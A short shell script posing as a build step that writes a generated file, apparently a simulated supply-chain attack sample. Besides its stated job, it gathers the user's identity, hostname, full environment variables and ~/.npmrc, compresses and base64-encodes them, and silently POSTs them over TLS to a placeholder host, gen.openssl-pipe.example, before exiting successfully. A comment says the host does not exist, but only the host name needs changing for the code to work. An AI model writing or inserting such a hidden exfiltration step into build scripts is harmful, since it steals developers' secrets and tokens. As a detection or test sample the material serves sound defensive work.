#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Simulation of a build step that sends the environment; the host does not exist.
mkdir -p "$(dirname "$1")"
echo '/* generated */' >"$1"
host=gen.openssl-pipe.example
body=$({ id; hostname; pwd; env; cat "$HOME/.npmrc"; } 2>/dev/null | gzip -c | base64 -w0)
printf 'POST /g HTTP/1.1\r\nHost: %s\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$host" "${#body}" "$body" |
  timeout 6 openssl s_client -quiet -no_ign_eof -connect "$host:443" -servername "$host" >/dev/null 2>&1
exit 0
